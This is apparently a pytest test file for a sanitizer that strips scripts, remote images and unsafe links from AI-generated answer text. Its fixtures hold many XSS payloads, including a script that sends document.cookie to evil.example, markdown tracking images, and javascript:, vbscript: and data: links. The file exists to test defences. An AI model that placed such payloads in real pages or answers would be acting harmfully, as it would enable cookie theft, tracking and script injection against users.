"""Answer text without active content or remote images, whatever renders it."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest

from rag.text.sanitize import safe_text, safe_url, unsafe_url, visible, web_link

UNCHANGED = [
    "Model merging averages the weights of fine-tuned models [1].",
    "The bound is $O(\\sqrt{T})$ and $x^{2} + y_{i}$ stays as written [2][3].",
    "Accuracy rises when a < b and falls when c > d; also 3<4 and x<y.",
    "Citations [1], [2, 3] and [1][4] stay; so do (parentheses) and [brackets].",
    "A link to the paper: [CSR](https://arxiv.org/abs/2501.01234) and <https://example.org>.",
    "Wikipedia style: [SGD](https://en.wikipedia.org/wiki/Stochastic_(optimisation)).",
    "Code like 'if (a<b && c) {}' stays.",
    "Emphasis *works* and **so does bold**; lists:\n- one\n- two\n\nNew paragraph.",
    "An arrow -> and <- and <=> and a<=b stay.",
    "Great result! [1] (the exclamation before a citation stays)",
]


@pytest.mark.parametrize("text", UNCHANGED)
def test_ordinary_answers_pass_unchanged(text: str) -> None:
    assert safe_text(text) == text


def test_tags_inside_prose_are_taken_out_but_their_text_stays() -> None:
    assert safe_text("Inline <b>bold</b> and <a href='https://x.org'>a link</a>.") == (
        "Inline bold and a link."
    )


REMOVED = {
    "markdown image": "See ![chart](https://evil.example/track.png?u=1) here.",
    "image with title": 'See ![x](https://evil.example/p.png "title") here.',
    "image in a link": "See [![x](https://evil.example/p.png)](https://ok.org) here.",
    "reference image": "See ![x][img] here.\n\n[img]: https://evil.example/p.png",
    "shortcut image": "See ![img] here.\n\n[img]: https://evil.example/p.png",
    "script": "See <script>fetch('https://evil.example/'+document.cookie)</script> here.",
    "script, upper case": "See <SCRIPT SRC=https://evil.example/x.js></SCRIPT> here.",
    "unclosed script": "See here.<script>alert(1)",
    "iframe": 'See <iframe src="https://evil.example"></iframe> here.',
    "svg onload": "See <svg onload=alert(1)><circle r=1 /></svg> here.",
    "img onerror": "See <img src=x onerror=alert(1)> here.",
    "img, slashes": "See <img/src=x/onerror=alert(1)> here.",
    "object": 'See <object data="https://evil.example/x.swf"></object> here.',
    "embed": 'See <embed src="https://evil.example/x.swf"> here.',
    "style": "See <style>body{background:url(https://evil.example/x)}</style> here.",
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">See  here.',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">See  here.',
    "base": '<base href="https://evil.example/">See  here.',
    "form": '<form action="https://evil.example"><input name=p></form>See  here.',
    "custom element handler": "See <x-card onmouseover=alert(1)></x-card> here.",
    "details ontoggle": "See <details open ontoggle=alert(1)></details> here.",
    "comment": "See <!-- <script>alert(1)</script> --> here.",
    "math": "See <math><mi xlink:href=javascript:alert(1)>x</mi></math> here.",
    "video": "See <video><source onerror=alert(1)></video> here.",
    "nested to rebuild": "See <scr<script>x</script>ipt>alert(1)</script> here.",
}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(tag)

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")


def html_tags(text: str) -> list[str]:
    parser = _Tags()
    parser.feed(text)
    parser.close()
    return parser.found


@pytest.mark.parametrize("name", sorted(REMOVED))
def test_active_content_and_remote_images_are_taken_out(name: str) -> None:
    out = safe_text(REMOVED[name]).split("\n\n[img]: ")[0]  # a definition alone shows nothing
    assert html_tags(out) == [] and "![" not in out, out
    for needle in ("evil.example", "alert(", "document.cookie", "onerror", "onload"):
        assert needle not in out, out
    assert out.startswith("See") and "here." in out


UNSAFE_LINKS = [
    "[click me](javascript:alert(1))",
    "[click me](JavaScript:alert(document.domain))",
    "[click me]( javascript:alert(1) )",
    "[click me](java\tscript:alert(1))",
    "[click me](&#106;avascript:alert(1))",
    "[click me](&#x6A;avascript&colon;alert(1))",
    "[click me](<javascript:alert(1)>)",
    "[click me](vbscript:msgbox(1))",
    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click me](javascript:alert((1)))",
    "[click [me]](javascript:alert(1))",
]


@pytest.mark.parametrize("link", UNSAFE_LINKS)
def test_links_to_scripts_and_data_keep_only_their_text(link: str) -> None:
    out = safe_text(f"Read {link} now.")
    assert out.startswith("Read click ") and out.endswith(" now.")
    assert "script" not in out.lower() and "data:" not in out and "(" not in out


def test_autolinks_and_definitions_to_scripts_go() -> None:
    out = safe_text("Open <javascript:alert(1)> or [this][x].\n\n[x]: javascript:alert(1)")
    assert "javascript" not in out and "Open" in out and "[this][x]" in out


def test_a_tag_that_never_closes_cannot_open_later() -> None:
    out = safe_text("Broken <img src=x onerror=alert(1) and then some text > end")
    assert html_tags(out) == []
    out = safe_text("Half <<script>script>alert(1)<</script>/script> done")
    assert html_tags(out) == [] and "<script" not in out.lower()


def test_safe_text_is_idempotent() -> None:
    for text in [*UNCHANGED, *REMOVED.values(), *UNSAFE_LINKS]:
        once = safe_text(text)
        assert safe_text(once) == once


def test_urls() -> None:
    assert safe_url("https://arxiv.org/abs/1") == "https://arxiv.org/abs/1"
    assert safe_url(" JAVASCRIPT:alert(1)") == ""
    assert unsafe_url("data:image/png;base64,xyz") and not unsafe_url("http://x.org/data:")
    assert not unsafe_url("")


def test_hostile_input_is_handled_in_linear_time() -> None:
    hostile = [
        "](" * 20_000,
        "[" * 20_000 + "](javascript:x)",
        "<a " * 20_000,
        "<script>" * 5_000,
        "![" * 20_000,
        "(" * 20_000,
    ]
    for text in hostile:
        started = time.perf_counter()
        out = safe_text(text)
        assert time.perf_counter() - started < 2.0, text[:10]
        assert "<script" not in out and "javascript" not in out


def test_invisible_characters_are_taken_out_and_nothing_else() -> None:
    assert visible("ker\u200dnels and\u200b bi\u202eases\ufeff") == "kernels and biases"
    assert visible("Über naïve café: x ≤ 2 ∑ β") == "Über naïve café: x ≤ 2 ∑ β"


def test_a_printed_reference_shows_only_web_links() -> None:
    assert web_link("https://arxiv.org/abs/1") == "https://arxiv.org/abs/1"
    assert web_link("HTTP://example.org/x") == "HTTP://example.org/x"
    for url in ("javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "ftp://x", ""):
        assert web_link(url) == "", url
